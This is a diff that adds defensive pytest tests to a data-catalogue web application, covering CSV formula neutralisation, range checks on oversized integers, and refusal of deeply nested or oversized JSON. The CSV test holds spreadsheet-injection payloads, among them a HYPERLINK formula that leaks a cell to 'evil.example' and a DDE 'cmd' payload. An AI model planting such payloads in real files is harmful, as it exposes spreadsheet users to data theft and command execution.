@@ -8,7 +8,15 @@ tests/catalog/test_search_whoosh.py; these add the column names, sorts, sizes an
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
+from werkzeug.routing import IntegerConverter
+
+from catalog.accounts.users import account_create
+from catalog.permissions import Actor
+from tests.web.conftest import CSRF_FIELD, PASSWORD, Visitor
 
 SPEND = b"supplier,amount\r\nAcme Ltd,120.50\r\nBeta plc,99.00\r\n"
 HOSTILE_NAMES = [
@@ -174,3 +182,136 @@ def test_paths_that_climb_out_or_hold_nul_never_serve_another_file(client, spend
         # A wrong file name is sent to the file's own name; a doubled slash is merged.
         followed = client.get(response.headers["Location"])
         assert followed.status_code == 404 or followed.get_data() == SPEND
+
+
+def test_formula_headings_are_neutralised_in_csv_exports_like_any_cell(client, shared_catalogue):
+    """A publisher's file whose column headings would run as formulas in a spreadsheet."""
+    headings = [
+        '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+    ]
+    header = ",".join('"' + heading.replace('"', '""') + '"' for heading in headings)
+    content = f"{header}\r\n=1+1,-2,plain\r\n".encode()
+    dataset = shared_catalogue.dataset("formula-headings", files={"headings.csv": content})
+    rid = dataset.resources[0].id
+    exported = client.get(f"/api/data/{rid}.csv").get_data(as_text=True)
+    first, *rows = csv.reader(io.StringIO(exported))
+    assert first == ["'" + heading for heading in headings]
+    assert rows == [["'=1+1", "-2", "plain"]]
+
+
+TOO_BIG = str(2**64)
+LARGEST = str(2**63 - 1)  # the largest a database holds: no such row, so a plain 404
+
+
+@pytest.fixture(scope="module")
+def admin(shared_app, shared_catalogue) -> Visitor:
+    """A signed-in sysadmin, who may open every staff page."""
+    account = account_create(
+        shared_catalogue.session,
+        actor=Actor.system("test"),
+        email="numbers@york.gov.uk",
+        name="Nora Numbers",
+        password=PASSWORD,
+        sysadmin=True,
+    )
+    browser = Visitor(shared_app.test_client())
+    assert browser.sign_in(account.email).request.path == "/publish"
+    return browser
+
+
+def _int_routes(app) -> list[tuple[str, str]]:
+    """Every route of the app with a number in its path, as (method, rule)."""
+    routes = []
+    for rule in app.url_map.iter_rules():
+        if any(isinstance(c, IntegerConverter) for c in rule._converters.values()):
+            routes.append(("GET" if "GET" in rule.methods else "POST", rule))
+    return routes
+
+
+@pytest.mark.parametrize("number", [TOO_BIG, LARGEST])
+def test_every_number_in_a_path_is_checked_before_it_reaches_the_database(
+    shared_app, admin, spend, number
+):
+    """`/publish/calendar/<2**64>`, `POST /account/tokens/<2**64>/revoke`, versions, runs..."""
+    token = CSRF_FIELD.search(admin.get("/account/tokens").text).group(1)
+    routes = _int_routes(shared_app)
+    assert len(routes) >= 10
+    for method, rule in routes:
+        values = {}
+        for argument, converter in rule._converters.items():
+            if isinstance(converter, IntegerConverter):
+                values[argument] = int(number)
+            elif argument == "resource_id":
+                values[argument] = spend
+            else:
+                values[argument] = sorted(getattr(converter, "items", ["supplier-spend"]))[0]
+        _domain, path = rule.build(values, append_unknown=False)
+        if method == "GET":
+            response = admin.get(path)
+        else:
+            response = admin.client.post(path, data={"csrf_token": token})
+        assert response.status_code == 404, (method, path, response.status_code)
+
+
+@pytest.mark.parametrize(
+    "action, params, status",
+    [
+        ("organization_show", {"id": TOO_BIG}, 404),
+        ("organization_show", {"id": "\u00b2"}, 404),
+        ("group_show", {"id": TOO_BIG}, 404),
+        ("package_activity_list", {"id": "supplier-spend", "limit": TOO_BIG}, 409),
+        ("package_search", {"start": TOO_BIG}, 409),
+        ("package_list", {"offset": TOO_BIG}, 409),
+        ("current_package_list_with_resources", {"offset": TOO_BIG}, 409),
+    ],
+)
+def test_every_number_in_a_parameter_is_range_checked(client, spend, action, params, status):
+    for response in (
+        client.get(f"/api/3/action/{action}", query_string=params),
+        client.post(f"/api/3/action/{action}", json=params),
+    ):
+        assert response.status_code == status, (action, params, response.get_json())
+        assert response.get_json()["success"] is False
+
+
+def test_a_version_number_too_large_for_a_database_is_a_400(client, spend):
+    response = client.get(f"/api/data/{spend}", query_string={"version": TOO_BIG})
+    assert response.status_code == 400
+    assert "version must be a version number" in response.get_json()["error"]["message"]
+
+
+NESTED = "[" * 1_000 + "]" * 1_000
+DEEP_OBJECT = '{"a": ' * 5_000 + "1" + "}" * 5_000
+
+
+@pytest.mark.parametrize(
+    "action, body",
+    [
+        ("package_search", NESTED),
+        ("package_search", '{"q": "x", "fq": ' + NESTED + "}"),
+        ("package_create", '{"name": "deep", "extras": ' + DEEP_OBJECT + "}"),
+        ("package_create", '{"name": "deep", "notes": "[[[[", "tags": ' + NESTED + "}"),
+    ],
+    ids=["a thousand [", "deep parameter", "deep object", "deep list"],
+)
+def test_json_nested_deeper_than_any_request_needs_is_a_400(client, spend, action, body):
+    response = client.post(f"/api/3/action/{action}", data=body, content_type="application/json")
+    assert response.status_code == 400
+    assert "The JSON nests more than 32 levels deep." in response.get_json()["error"]["message"]
+
+
+def test_a_json_body_too_large_for_any_request_is_a_413(client, spend):
+    body = '{"q": "' + "x" * (3 * 1024 * 1024) + '"}'
+    response = client.post(
+        "/api/3/action/package_search", data=body, content_type="application/json"
+    )
+    assert response.status_code == 413
+    assert "The JSON is larger than 2 MB." in response.get_json()["error"]["message"]
+
+
+def test_a_json_parameter_nested_too_deep_is_refused_clearly(client, spend):
+    response = client.get("/api/3/action/package_search", query_string={"facet.field": NESTED})
+    assert response.status_code == 409
+    assert response.get_json()["error"]["facet.field"] == ['Send a JSON list, such as ["tags"].']
